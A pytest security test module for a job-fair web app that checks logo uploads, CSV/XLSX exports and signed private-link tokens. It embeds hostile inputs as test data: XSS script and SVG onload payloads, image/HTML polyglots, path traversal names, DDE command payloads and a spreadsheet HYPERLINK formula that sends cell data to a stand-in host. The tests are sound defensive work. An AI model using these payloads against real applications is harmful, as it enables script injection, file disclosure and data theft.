"""Security review, re-checked in one place: uploads, exports and private links.

Each part drives the real routes (or the real CLI) with hostile input and asserts the outcome
itself; other test modules cover the same code in more detail, this one is the checklist.

* **Uploads** (exhibitor logos, through both forms that take one): judged by content, never by
  name or declared type; SVG, HTML and polyglots refused or re-encoded into a clean image; size
  and pixel limits; metadata stripped; stored under a generated name; served with ``nosniff`` and
  the content type of what is stored; the serving URL reaches nothing else.
* **Exports**: every CSV and XLSX the app writes (found from the code: a new writer fails
  :func:`test_every_export_is_reviewed`) neutralises cells that a spreadsheet would evaluate
  (``=``, ``+``, ``-``, ``@``, tab, CR first); XLSX cells are never formulas.
* **Private links** (:mod:`jobbforum.services.links`): every route taking a ``<token>`` (found from
  the URL map) refuses a token changed in any part, signed with another key, made for another
  purpose, expired or revoked, and never says whose it was; a valid token opens only its own
  objects.
"""

from __future__ import annotations

import base64
import csv
import io
import json
import re
from collections.abc import Callable
from dataclasses import dataclass, field
from datetime import timedelta
from pathlib import Path
from typing import Any

import pytest
import sqlalchemy as sa
from itsdangerous import URLSafeSerializer
from openpyxl import load_workbook
from PIL import Image

from jobbforum.extensions import db as _db
from jobbforum.models import (
    Booking,
    BookingStatus,
    BoothSharing,
    BoothVisit,
    ExhibitorRegistration,
    ExhibitorStatus,
    OrganisationType,
    Person,
    PrivateLink,
    Registration,
    utcnow,
)
from jobbforum.services import booths, links, registrations, uploads
from jobbforum.services import workshops as ws
from tests.booths_builders import *  # noqa: F403  (make_fair, make_exhibitor, make_ticket)
from tests.exhibitor_builders import jpeg_bytes, own_outbox, png_bytes, registration_form  # noqa: F401
from tests.test_uploads import crafted_bomb_png
from tests.workshops_builders import make_room, make_session, members  # noqa: F401

ROOT = Path(__file__).resolve().parent.parent

# =========================================================================== uploads

PNG_MAGIC, JPEG_MAGIC = b"\x89PNG\r\n\x1a\n", b"\xff\xd8\xff"
SCRIPT = b"<script>alert(document.cookie)</script>"


def _exif_jpeg() -> bytes:
    exif = Image.Exif()
    exif[0x010F] = "SecretCam"                          # camera make
    exif[0x8825] = {1: "N", 2: (59.0, 19.0, 48.0)}      # GPS position
    return jpeg_bytes(exif=exif.tobytes())


def _png_with_script_chunk() -> bytes:
    from PIL.PngImagePlugin import PngInfo

    info = PngInfo()
    info.add_text("Comment", SCRIPT.decode())
    return png_bytes(pnginfo=info)


@pytest.fixture()
def logo_store(app: Any, tmp_path: Path, monkeypatch: Any) -> Path:
    """Uploads go to a directory of this test's own (``UPLOAD_DIR``)."""
    monkeypatch.setitem(app.config, "UPLOAD_DIR", str(tmp_path / "uploads"))
    return tmp_path / "uploads"


@pytest.fixture(params=["registration form", "edit link"])
def post_logo(request: Any, client: Any, make_event: Any, make_exhibitor: Any, own_outbox: Any
              ) -> Callable[..., tuple[Any, Callable[[], str | None]]]:
    """``post_logo(filename, data, content_type)`` through one of the two forms that take a logo;
    returns the response and a function giving the logo name stored for that exhibitor."""
    event = make_event()
    client.set_cookie("lang", "en")
    if request.param == "registration form":
        url = f"/events/{event.slug}/exhibitors/register"

        def stored() -> str | None:
            return _db.session.scalar(sa.select(ExhibitorRegistration.logo_filename).where(
                ExhibitorRegistration.event_id == event.id))
    else:
        exhibitor = make_exhibitor(event)
        url = f"/exhibitor/edit/{exhibitor.token}"

        def stored() -> str | None:
            _db.session.expire_all()
            return _db.session.get(ExhibitorRegistration, exhibitor.id).logo_filename

    def post(filename: str, data: bytes, content_type: str = "application/octet-stream"):  # type: ignore[no-untyped-def]
        form = registration_form(logo=(io.BytesIO(data), filename, content_type))
        return client.post(url, data=form, content_type="multipart/form-data"), stored

    return post


@pytest.mark.parametrize("filename, data, message", [
    ("logo.png", b"GIF89a" + b"\x00" * 200, "Only PNG and JPEG"),
    ("logo.svg", b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>', "SVG images are"),
    ("logo.png", b'<?xml version="1.0"?><svg xmlns="http://www.w3.org/2000/svg">' + SCRIPT
     + b"</svg>", "SVG images are"),
    ("logo.png", b"<!doctype html><html><body>" + SCRIPT + b"</body></html>", "Only PNG and JPEG"),
    ("logo.png", PNG_MAGIC + b"<html>" + SCRIPT, "damaged"),
    ("logo.jpg", JPEG_MAGIC + b"\xe0<html>" + SCRIPT, "damaged"),
    ("logo.png", crafted_bomb_png(), "too many pixels"),
    ("logo.png", png_bytes() + b"\x00" * uploads.MAX_LOGO_BYTES, "too large"),
], ids=["gif", "svg", "svg-named-png", "html", "png-html-polyglot", "jpeg-html-polyglot",
        "pixel-flood", "too-large"])
def test_hostile_upload_is_refused_and_nothing_is_stored(post_logo, logo_store, filename, data,
                                                         message):
    response, stored = post_logo(filename, data, "image/png")
    assert response.status_code == 400 and message in response.get_data(as_text=True)
    assert stored() is None
    assert not [p for p in logo_store.rglob("*") if p.is_file()]


@pytest.mark.parametrize("filename, data, content_type, kind", [
    ("logo.svg", png_bytes(), "image/svg+xml", "png"),          # the name and type lie: content wins
    ("logo.png", jpeg_bytes(), "image/png", "jpg"),
    ("photo.jpg", _exif_jpeg(), "image/jpeg", "jpg"),
    ("logo.png", _png_with_script_chunk(), "image/png", "png"),
    ("logo.jpg", jpeg_bytes() + b"<html>" + SCRIPT, "image/jpeg", "jpg"),  # a JPEG/HTML polyglot
    ("../../../../static/evil.png", png_bytes(), "image/png", "png"),
], ids=["png-named-svg", "jpeg-named-png", "exif-gps", "png-text-chunk", "jpeg-trailing-html",
        "traversal-name"])
def test_accepted_upload_is_reencoded_renamed_and_served_safely(post_logo, logo_store, client,
                                                                filename, data, content_type,
                                                                kind):
    response, stored = post_logo(filename, data, content_type)
    assert response.status_code == 303, response.get_data(as_text=True)
    name = stored()
    assert uploads.STORED_NAME_RE.match(name) and name.endswith("." + kind)
    assert [p.relative_to(logo_store).as_posix() for p in logo_store.rglob("*")
            if p.is_file()] == [f"logos/{name}"]
    served = client.get(f"/exhibitor-logos/{name}")
    body = served.data
    assert served.status_code == 200
    assert served.headers["X-Content-Type-Options"] == "nosniff"
    assert served.mimetype == {"png": "image/png", "jpg": "image/jpeg"}[kind]
    assert body.startswith(PNG_MAGIC if kind == "png" else JPEG_MAGIC)
    assert "script-src 'self'" in served.headers["Content-Security-Policy"]
    for leftover in (b"<script", b"<html", b"SecretCam", b"Exif", b"GPS"):
        assert leftover not in body, leftover
    with Image.open(io.BytesIO(body)) as image:
        assert not image.getexif() and not image.info.get("Comment")


@pytest.mark.parametrize("path", [
    "..%2Fsecret.txt", "..%2F..%2Fsecret.txt", "%2e%2e%2fsecret.txt", "..%5csecret.txt",
    "secret.txt", "page.html", "{hex}.svg", "{HEX}.png", ".{hex}.png.tmp", "{hex}.png%00.html",
    "{hex}.png/..%2F..%2Fsecret.txt",
])
def test_logo_url_serves_only_generated_names(client, logo_store, path):
    """Files planted next to the logos and above them (not made by the upload code) and
    traversal attempts are never served."""
    hex_name = "ab" * 16
    (logo_store / "logos").mkdir(parents=True)
    planted = {logo_store / "secret.txt": b"SECRET", logo_store / "logos" / "secret.txt": b"SECRET",
               logo_store / "logos" / "page.html": b"<html>" + SCRIPT,
               logo_store / "logos" / f"{hex_name}.svg": b"<svg onload=alert(1)>SECRET</svg>",
               logo_store / "logos" / f"{hex_name.upper()}.png": b"SECRET",
               logo_store / "logos" / f".{hex_name}.png.tmp": b"SECRET"}
    for file, content in planted.items():
        file.write_bytes(content)
    response = client.get("/exhibitor-logos/" + path.format(hex=hex_name, HEX=hex_name.upper()))
    assert response.status_code in (400, 404)
    assert b"SECRET" not in response.data and b"<script" not in response.data


# =========================================================================== exports

#: First characters that make a spreadsheet evaluate a cell (OWASP CSV injection).
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
#: Hostile names and organisations put into the data (a DDE payload, hyperlinks, arithmetic …).
HOSTILE = ("=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?d="&A1,"Open")', "+1+2",
           "-3+cmd|' /C notepad'!A0", "@SUM(1,2)", "\t=4+4", "\r=5+5")


def live(cell: str) -> bool:
    """Whether a spreadsheet would evaluate this text cell."""
    try:
        float(cell)
        return False  # a plain (negative) number
    except ValueError:
        pass
    return cell.startswith(TRIGGERS) or cell.lstrip(" ").startswith(TRIGGERS[:4])


def csv_cells(data: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(data.decode("utf-8-sig"), newline=""))
            for cell in row]


def xlsx_cells(data: bytes) -> list[str]:
    """Every cell of every sheet as text; asserts that none is a formula."""
    workbook = load_workbook(io.BytesIO(data))
    cells = []
    for sheet in workbook.worksheets:
        for row in sheet.iter_rows():
            for cell in row:
                assert cell.data_type != "f", (sheet.title, cell.coordinate, cell.value)
                if cell.value is not None:
                    cells.append(str(cell.value))
    return cells


def reached(payload: str, cells: list[str]) -> bool:
    """The hostile payload is in the export (made inert; whitespace may be normalised)."""
    bare = " ".join(payload.split())
    return any(" ".join(cell.lstrip("'").split()) == bare for cell in cells)


@dataclass
class ExportWorld:
    """Data with hostile names, organisations and notes, and the clients to export it."""

    app: Any
    coordinator: Any
    anonymous: Any
    event: Any
    booth_token: str
    tmp_path: Path


@pytest.fixture()
def export_world(app, client, staff_client, make_event, make_fair, make_exhibitor, tmp_path
                 ) -> ExportWorld:
    event = make_event()  # open for exhibitors (the fair below is already running)
    fair = make_fair(types=(OrganisationType.employer,))
    ours = fair.exhibitors[0]
    for n, payload in enumerate(HOSTILE):
        make_exhibitor(event, name=payload, contact_name=payload)
        visit, _ = booths.record_visit(ours, fair.visitor(BoothSharing.contact, name=payload,
                                                          email=f"v{n}@example.org").code)
        booths.annotate(visit, note=payload, tags=["job"])
    _db.session.commit()
    return ExportWorld(app=app, coordinator=staff_client("coordinator"), anonymous=client,
                       event=event, booth_token=ours.booth_token, tmp_path=tmp_path)


def _ok(response: Any) -> bytes:
    assert response.status_code == 200, response.get_data(as_text=True)[:500]
    return response.data


def _cli(world: ExportWorld, *args: str) -> Any:
    result = world.app.test_cli_runner().invoke(args=list(args))
    assert result.exit_code == 0, result.output
    return result


def _cli_attendance(world: ExportWorld, fmt: str) -> bytes:
    out = world.tmp_path / f"attendance.{fmt}"
    _cli(world, "export", "attendance", "--format", fmt, "--out", str(out),
         *(("--datapackage", str(world.tmp_path / "package")) if fmt == "csv" else ()))
    if fmt == "csv":
        assert (world.tmp_path / "package" / "attendance.csv").read_bytes() == out.read_bytes()
    return out.read_bytes()


#: Every CSV and XLSX export: (module calling the writer, name, formats, how to get it, whether
#: the hostile data is in it). Attendance and indicators carry no free text (participant codes,
#: round slugs of a–z, 0–9 and hyphens, enums and numbers); their cells are checked all the same.
EXPORTS: list[tuple[str, str, tuple[str, ...], Callable[[ExportWorld, str], bytes], bool]] = [
    ("blueprints/exhibitor/staff.py", "staff exhibitor list", ("csv", "xlsx"),
     lambda w, fmt: _ok(w.coordinator.get(f"/admin/events/{w.event.slug}/exhibitors/export.{fmt}")),
     True),
    ("blueprints/booths/views.py", "booth visits (booth link)", ("csv", "xlsx"),
     lambda w, fmt: _ok(w.anonymous.get(f"/booth/{w.booth_token}/visits.{fmt}")), True),
    ("blueprints/reports/views.py", "attendance (reports page)", ("csv", "xlsx"),
     lambda w, fmt: _ok(w.coordinator.post("/reports/attendance", data={"format": fmt})), False),
    ("blueprints/reports/views.py", "indicators (reports page)", ("csv",),
     lambda w, fmt: _ok(w.coordinator.post(f"/reports/indicators/download/{fmt}")), False),
    ("jobbforum/cli/export.py", "jobbforum export attendance", ("csv", "xlsx"), _cli_attendance,
     False),
    ("jobbforum/cli/indicators.py", "jobbforum indicators", ("csv",),
     lambda w, fmt: _cli(w, "indicators", "--format", fmt).output.encode(), False),
]
EXPORT_CASES = [pytest.param(get, fmt, hostile, id=f"{name}-{fmt}")
                for _module, name, formats, get, hostile in EXPORTS for fmt in formats]

#: The one CSV/XLSX writer and the two thin wrappers around it (attendance, indicators).
WRITERS = {"jobbforum/documents/exports.py", "jobbforum/documents/attendance_export.py",
           "jobbforum/documents/indicator_export.py"}
#: Calls of the tabular writers (jobbforum/documents/exports.py and its thin wrappers).
WRITER_CALL = re.compile(r"\b(csv_bytes|xlsx_bytes|write_csv|write_xlsx|write_datapackage|"
                         r"indicators_csv)\(")
OTHER_WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|xlsxwriter\.|openpyxl\.Workbook\(|"
                           r"import xlsxwriter|Workbook\(")


def test_every_export_is_reviewed():
    """The list above is every caller of the writers, and nothing writes CSV or XLSX around
    them: a new export must be added to :data:`EXPORTS`."""
    callers, bypasses = set(), []
    for path in sorted([*(ROOT / "jobbforum").rglob("*.py"), *(ROOT / "blueprints").rglob("*.py")]):
        relative = path.relative_to(ROOT).as_posix()
        source = path.read_text(encoding="utf-8")
        if relative in WRITERS:
            continue
        if WRITER_CALL.search(source):
            callers.add(relative)
        if OTHER_WRITERS.search(source):
            bypasses.append(relative)
    assert callers == {module for module, *_rest in EXPORTS}
    assert bypasses == []


@pytest.mark.parametrize("get, fmt, hostile", EXPORT_CASES)
def test_export_neutralises_formulas(export_world, get, fmt, hostile):
    data = get(export_world, fmt)
    cells = xlsx_cells(data) if fmt == "xlsx" else csv_cells(data)
    assert cells, "the export is empty"
    assert [c for c in cells if live(c)] == []
    if hostile:
        assert [p for p in HOSTILE if not reached(p, cells)] == []


# =========================================================================== private links


@dataclass
class LinkWorld:
    """One subject of every link purpose, a second one of each (another person's or another
    booth's objects), and the valid tokens."""

    tokens: dict[str, str]
    subjects: dict[str, int]
    #: Text that identifies each purpose's subject (must never be on an error page).
    names: dict[str, str]
    #: Path arguments of our own objects (``{visit}``, ``{staff}``, ``{session}``, ``{booking}``).
    own: dict[str, Any] = field(default_factory=dict)
    #: The same arguments for objects of the second subjects.
    other: dict[str, Any] = field(default_factory=dict)


@pytest.fixture()
def link_world(db, make_fair, make_exhibitor, make_session, make_round, members, own_outbox
               ) -> LinkWorld:
    fair = make_fair()
    ours, theirs = fair.exhibitors
    # Exhibitors still editing (the fair's are past their edit deadline).
    editing, other_editing = (make_exhibitor(staff_names=(f"Staffer {n}", f"Helper {n}"),
                                             status=ExhibitorStatus.approved) for n in (1, 2))
    ticket = fair.visitor(BoothSharing.contact, name="Lina Ticketholder")
    other_ticket = fair.visitor(BoothSharing.contact, name="Omar Other")
    visit, _ = booths.record_visit(ours, ticket.code)
    other_visit, _ = booths.record_visit(theirs, other_ticket.code)
    programme_round = make_round()
    session = make_session(rounds=[programme_round])
    person, other_person = members(programme_round, 2)
    person.name = "Bo Bookingperson"
    booking = ws.book_session(person, session).booking
    other_booking = ws.book_session(other_person, session).booking
    tokens = {"ticket": registrations.issue_link(ticket.registration), "exhibitor": editing.token,
              "booth": ours.booth_token,
              "bookings": ws.booking_url(person).rsplit("/", 1)[1]}
    _db.session.commit()
    return LinkWorld(
        tokens=tokens,
        subjects={"ticket": ticket.registration_id, "exhibitor": editing.id, "booth": ours.id,
                  "bookings": person.id},
        names={"ticket": "Lina Ticketholder", "exhibitor": editing.organisation.name,
               "booth": ours.organisation.name, "bookings": "Bo Bookingperson"},
        own={"visit": visit.id, "booth_visit": visit.id, "staff": editing.booth_staff[0].id,
             "session": session.id, "booking": booking.id, "fmt": "csv", "theme": "networking"},
        other={"visit": other_visit.id, "booth_visit": other_visit.id,
               "staff": other_editing.booth_staff[0].id, "booking": other_booking.id})


#: Every route with a private link: (purpose, method, path, form data, status when valid).
#: ``{token}`` is the token; other fields are filled from :attr:`LinkWorld.own`.
LINK_ROUTES: list[tuple[str, str, str, dict[str, Any], int]] = [
    ("ticket", "GET", "/t/{token}", {}, 200),
    ("ticket", "GET", "/t/{token}/event.ics", {}, 200),
    ("ticket", "GET", "/t/{token}/ticket.pdf", {}, 200),
    ("ticket", "POST", "/t/{token}/sharing", {"booth_sharing": "visit_only"}, 303),
    ("ticket", "POST", "/t/{token}/booths/{visit}/withdraw", {}, 303),
    ("exhibitor", "GET", "/exhibitor/edit/{token}", {}, 200),
    ("exhibitor", "POST", "/exhibitor/edit/{token}", registration_form(name="Renamed AB"), 303),
    ("exhibitor", "POST", "/exhibitor/edit/{token}/staff", {"name": "New Staffer"}, 302),
    ("exhibitor", "POST", "/exhibitor/edit/{token}/staff/{staff}/remove", {}, 303),
    ("exhibitor", "POST", "/exhibitor/edit/{token}/booth-link", {}, 303),
    ("booth", "GET", "/booth/{token}", {}, 200),
    ("booth", "POST", "/booth/{token}/visits/{booth_visit}", {}, 302),
    ("booth", "GET", "/booth/{token}/visits.{fmt}", {}, 200),
    ("booth", "GET", "/api/v1/booth/visits", {}, 200),
    ("booth", "POST", "/api/v1/booth/scan", {}, 400),
    ("bookings", "GET", "/b/{token}", {}, 200),
    ("bookings", "POST", "/b/{token}/book/{session}", {}, 302),
    ("bookings", "POST", "/b/{token}/cancel/{booking}", {}, 302),
    ("bookings", "POST", "/b/{token}/rank/{theme}", {}, 302),
    ("bookings", "POST", "/b/{token}/calendar/new", {}, 302),
    ("bookings", "GET", "/b/{token}/booking/{booking}.ics", {}, 200),
]


def call(client: Any, method: str, path: str, token: str, data: dict[str, Any]) -> Any:
    """Request a link route; the booth API takes the token as a bearer token instead."""
    if path.startswith("/api/"):
        return client.open(path, method=method, headers={"Authorization": f"Bearer {token}"})
    return client.open(path.replace("{token}", token), method=method, data=data)


def bad_tokens(app: Any, token: str, purpose: str) -> dict[str, str]:
    """The token changed in each of its parts, and forgeries of it."""
    payload, signature = token.rsplit(".", 1)
    _purpose, nonce = URLSafeSerializer(app.config["SECRET_KEY"], salt=links._SALT).loads(token)

    def flip(text: str) -> str:
        middle = len(text) // 2
        return text[:middle] + ("A" if text[middle] != "A" else "B") + text[middle + 1:]

    unsigned = base64.urlsafe_b64encode(json.dumps([purpose, nonce]).encode()).decode().rstrip("=")
    return {
        "payload changed": f"{flip(payload)}.{signature}",
        "signature changed": f"{payload}.{flip(signature)}",
        "signature removed": payload,
        "signature cut short": token[:-4],
        "part added": f"{token}.{signature}",
        "nonce changed": URLSafeSerializer(app.config["SECRET_KEY"], salt=links._SALT).dumps(
            [purpose, flip(nonce)]),
        "signed with another key": URLSafeSerializer("another-secret-key-" + "z" * 32,
                                                     salt=links._SALT).dumps([purpose, nonce]),
        "signed for another use": URLSafeSerializer(app.config["SECRET_KEY"],
                                                    salt="another-salt").dumps([purpose, nonce]),
        "unsigned": unsigned,
        "junk": "x" * 40,
    }


def _refused(response: Any, status: int, world: LinkWorld, purpose: str, case: str) -> None:
    assert response.status_code == status, (case, response.status_code)
    assert world.names[purpose] not in response.get_data(as_text=True), case


@pytest.mark.parametrize("purpose, method, path, data, valid_status",
                         [pytest.param(*route, id=f"{route[1]} {route[2]}") for route in LINK_ROUTES])
def test_private_link_refuses_every_bad_token(app, client, link_world, purpose, method, path,
                                              data, valid_status):
    world = link_world
    path = path.format(token="{token}", **world.own)
    token = world.tokens[purpose]
    for case, bad in bad_tokens(app, token, purpose).items():
        _refused(call(client, method, path, bad, data), 404, world, purpose, case)
    for other in sorted(set(world.tokens) - {purpose}):
        # A valid link of another kind, even for the same id, opens nothing here.
        wrong = links.issue(other, world.subjects[purpose], expires_at=utcnow() + timedelta(days=1))
        _db.session.commit()
        _refused(call(client, method, path, wrong, data), 404, world, purpose, f"purpose {other}")
    link = links.resolve(token, purpose)
    for case, change in (("expired", {"expires_at": utcnow() - timedelta(seconds=1)}),
                         ("revoked", {"revoked_at": utcnow()})):
        saved = {key: getattr(link, key) for key in change}
        for key, value in change.items():
            setattr(link, key, value)
        _db.session.commit()
        _refused(call(client, method, path, token, data), 410, world, purpose, case)
        for key, value in saved.items():
            setattr(link, key, value)
        _db.session.commit()
    response = call(client, method, path, token, data)
    assert response.status_code == valid_status, response.get_data(as_text=True)[:500]
    assert response.headers["Referrer-Policy"] == "no-referrer"  # the token stays in this URL
    assert response.headers["Cache-Control"] == "no-store"


def test_every_private_link_route_is_reviewed(app):
    """A new route with a ``<token>`` must be added to :data:`LINK_ROUTES`."""
    from jobbforum.app import PRIVATE_LINK_ARGUMENTS

    def shape(path: str) -> str:
        return re.sub(r"<[^>]+>|\{[^}]+\}", "*", path)

    routed = {(method, shape(rule.rule)) for rule in app.url_map.iter_rules()
              if PRIVATE_LINK_ARGUMENTS & set(rule.arguments)
              for method in rule.methods - {"HEAD", "OPTIONS"}}
    routed |= {(method, shape(rule.rule)) for rule in app.url_map.iter_rules()
               if rule.rule.startswith("/api/v1/booth/")
               for method in rule.methods - {"HEAD", "OPTIONS"}}
    reviewed = {(method, shape(path)) for _p, method, path, _d, _s in LINK_ROUTES}
    reviewed |= {(method, shape(path)) for _purpose, method, path, *_rest in OBJECT_ROUTES}
    reviewed.add(("GET", "/cal/*.ics"))  # a secret of its own: test_calendar_feed_secret
    assert routed - reviewed == set()


#: Routes naming an object besides the link: another subject's object is never reached.
#: (purpose, method, path, form or JSON data, status, how to see that it was left alone)
OBJECT_ROUTES: list[tuple[str, str, str, dict[str, Any], int, Callable[[LinkWorld], bool]]] = [
    ("ticket", "POST", "/t/{token}/booths/{visit}/withdraw", {}, 404,
     lambda w: _db.session.get(BoothVisit, w.other["visit"]).withdrawn_at is None),
    ("exhibitor", "POST", "/exhibitor/edit/{token}/staff/{staff}/remove", {}, 404,
     lambda w: _db.session.get(Registration, w.other["staff"]) is not None),
    ("booth", "POST", "/booth/{token}/visits/{booth_visit}", {"v{booth_visit}-note": "mine"}, 404,
     lambda w: _db.session.get(BoothVisit, w.other["booth_visit"]).note == ""),
    ("booth", "POST", "/api/v1/booth/visits/{booth_visit}", {"note": "mine"}, 404,
     lambda w: _db.session.get(BoothVisit, w.other["booth_visit"]).note == ""),
    # The booking page answers every action with a redirect and a message.
    ("bookings", "POST", "/b/{token}/cancel/{booking}", {}, 302,
     lambda w: _db.session.get(Booking, w.other["booking"]).status is BookingStatus.booked),
    ("bookings", "GET", "/b/{token}/booking/{booking}.ics", {}, 404, lambda w: True),
]


@pytest.mark.parametrize("purpose, method, path, data, status, untouched",
                         [pytest.param(*route, id=f"{route[1]} {route[2]}") for route in OBJECT_ROUTES])
def test_private_link_reaches_only_its_own_objects(client, link_world, purpose, method, path, data,
                                                   status, untouched):
    world, token = link_world, link_world.tokens[purpose]
    target = path.format(token="{token}", **world.other)
    form = {key.format(**world.other): value for key, value in data.items()}
    if target.startswith("/api/"):
        response = client.open(target, method=method, json=form,
                               headers={"Authorization": f"Bearer {token}"})
    else:
        response = call(client, method, target, token, form)
    assert response.status_code == status
    _db.session.expire_all()
    assert untouched(world)


def test_ticket_link_shows_only_its_own_registration(client, link_world):
    page = client.get(f"/t/{link_world.tokens['ticket']}").get_data(as_text=True)
    assert "Lina Ticketholder" in page and "Omar Other" not in page


def test_calendar_feed_secret(client, link_world):
    """The calendar feed is named by a random secret of its own (no signed token): only the
    exact secret opens it, and only its person's bookings are in it."""
    person = _db.session.get(Person, link_world.subjects["bookings"])
    secret = ws.feed_secret(person)
    _db.session.commit()
    assert client.get(f"/cal/{secret}.ics").status_code == 200
    for bad in (secret[:-1], secret + "x", secret.upper() if secret.upper() != secret else "X",
                "%2e%2e%2f" + secret):
        assert client.get(f"/cal/{bad}.ics").status_code == 404, bad


def test_revoked_link_stays_revoked_and_a_new_one_works(client, link_world):
    token, subject = link_world.tokens["ticket"], link_world.subjects["ticket"]
    assert links.revoke_all("ticket", subject) == 1
    fresh = links.issue("ticket", subject, expires_at=utcnow() + timedelta(days=1))
    _db.session.commit()
    assert client.get(f"/t/{token}").status_code == 410
    assert client.get(f"/t/{fresh}").status_code == 200
    assert _db.session.scalar(sa.select(sa.func.count()).select_from(PrivateLink).where(
        PrivateLink.subject_id == subject, PrivateLink.purpose == "ticket",
        PrivateLink.revoked_at.is_(None))) == 1


@pytest.mark.parametrize("purpose", ["ticket", "bookings"])
def test_links_of_an_erased_person_open_nothing_even_when_the_id_returns(
        client, make_ticket, make_person, purpose):
    """Erasing a person deletes their registrations; their links must not open whoever gets the
    same id next (SQLite hands a deleted largest id out again)."""
    from jobbforum.services import privacy

    ticket = make_ticket(name="Erased Person")
    event, person = ticket.registration.event, ticket.registration.person
    token = (registrations.issue_link(ticket.registration) if purpose == "ticket"
             else ws.booking_url(person).rsplit("/", 1)[1])
    _db.session.commit()
    privacy.erase_person(person, include_attendance_link=True, actor_label="test")
    _db.session.commit()
    make_ticket(event=event, name="Newcomer Person")
    response = client.get(f"/t/{token}" if purpose == "ticket" else f"/b/{token}")
    assert response.status_code == 404
    assert "Newcomer Person" not in response.get_data(as_text=True)
    assert _db.session.scalar(sa.select(sa.func.count()).select_from(PrivateLink)) == 0


@pytest.mark.parametrize("purpose", ["ticket", "bookings"])
def test_links_of_a_person_erased_but_kept_for_attendance_are_revoked(
        client, make_ticket, purpose):
    """An erasure that keeps the attendance record still ends the person's private links."""
    from jobbforum.services import privacy

    ticket = make_ticket(name="Erased Person")
    person = ticket.registration.person
    token = (registrations.issue_link(ticket.registration) if purpose == "ticket"
             else ws.booking_url(person).rsplit("/", 1)[1])
    _db.session.commit()
    url = f"/t/{token}" if purpose == "ticket" else f"/b/{token}"
    assert client.get(url).status_code == 200
    counts = privacy.erase_person(person, actor_label="test")
    _db.session.commit()
    assert counts["private_links"] == 1
    response = client.get(url)
    assert response.status_code == 410
    assert "Erased Person" not in response.get_data(as_text=True)
